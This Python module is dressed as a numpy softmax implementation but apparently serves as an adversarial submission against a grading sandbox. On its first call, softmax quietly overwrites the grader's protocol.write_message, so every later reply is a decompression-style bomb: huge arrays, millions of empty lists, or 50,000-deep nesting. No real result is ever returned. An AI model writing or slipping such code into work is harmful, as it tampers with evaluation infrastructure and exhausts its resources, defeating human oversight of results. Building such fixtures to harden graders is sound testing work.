"""Answers with replies that are legal on the wire but expensive to read: a 64 MB array (as much as a reply to a
small call may hold), millions of empty lists in the header, a hundred and fifty thousand empty arrays, an array
referenced a thousand times, or a value nested 50,000 deep. The first call rewrites the worker's message writer;
every reply after it is a bomb (a correct value never leaves). The first worker of the stage starts with the
first bomb, the Nth after it (its scratch folder ends in N) with the Nth, so that the four workers a stage
allows send each one."""
import io
import os
import re
import struct
import sys

import numpy as np

_BOMBS = []


def _frame(header: bytes, blobs=()) -> bytes:
    parts = [struct.pack("<I", len(header)), header, struct.pack("<I", len(blobs))]
    for blob in blobs:
        parts += [struct.pack("<Q", len(blob)), blob]
    payload = b"".join(parts)
    return struct.pack("<Q", len(payload)) + payload


def _npy(array) -> bytes:
    buf = io.BytesIO()
    np.lib.format.write_array(buf, array)
    return buf.getvalue()


def _bombs():
    empty, big = _npy(np.zeros(0)), _npy(np.zeros(1 << 20))
    ok = b'{"__dict__": [["ok", true], ["value", %s]]}'
    yield _frame(ok % b'{"__ndarray__": 0}', [_npy(np.zeros(((64 << 20) - 4096) // 8))])  # 64 MB, decodable
    yield _frame(ok % (b"[" + b"[]," * 7_000_000 + b"[]]"))                       # 21 MB of empty lists
    yield _frame(ok % (b"[" + b",".join(b'{"__ndarray__": %d}' % i for i in range(150_000)) + b"]"),
                 [empty] * 150_000)                                                # 150,000 empty arrays
    yield _frame(ok % (b"[" + b",".join([b'{"__tensor__": 0}'] * 1000) + b"]"), [big])  # one 8 MB array, 1000 times
    yield _frame(ok % (b"[" * 50_000 + b"]" * 50_000))                             # nested 50,000 deep


def _install():
    protocol = sys.modules["grader.sandbox.protocol"]
    bombs = list(_bombs())
    found = re.search(r"(\d+)$", os.getcwd())
    nth = int(found.group(1)) if found else 1

    def write_message(fd, value):
        data = bombs[((nth if nth > 1 else 0) + len(_BOMBS)) % len(bombs)]
        _BOMBS.append(1)
        view = memoryview(data)
        while view:
            view = view[os.write(fd, view):]
    protocol.write_message = write_message


def softmax(x, axis=-1):
    if not _BOMBS:
        _install()
    x = np.asarray(x, dtype=float)
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)


def log_softmax(x, axis=-1):
    return np.log(softmax(x, axis))
